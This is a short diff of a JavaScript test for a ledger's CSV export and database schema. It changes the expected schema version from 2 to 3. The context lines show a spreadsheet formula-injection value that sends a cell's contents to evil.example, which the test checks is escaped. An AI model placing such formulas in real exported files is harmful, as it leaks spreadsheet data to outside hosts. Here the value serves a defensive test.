@@ -179,7 +179,7 @@ describe('the ledger', () => {
     expect(csv.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(csv.stdout).not.toMatch(/^"?=/m);
     const db = new Database(ledgerFile(), { readonly: true });
-    expect(db.pragma('user_version', { simple: true })).toBe(2);
+    expect(db.pragma('user_version', { simple: true })).toBe(3);
     expect(db.prepare('SELECT job_id, refusal FROM jobs ORDER BY received_at').all()).toEqual([
       { job_id: 'old-1', refusal: null },
       { job_id: expect.any(String), refusal: 'model_not_loaded' },
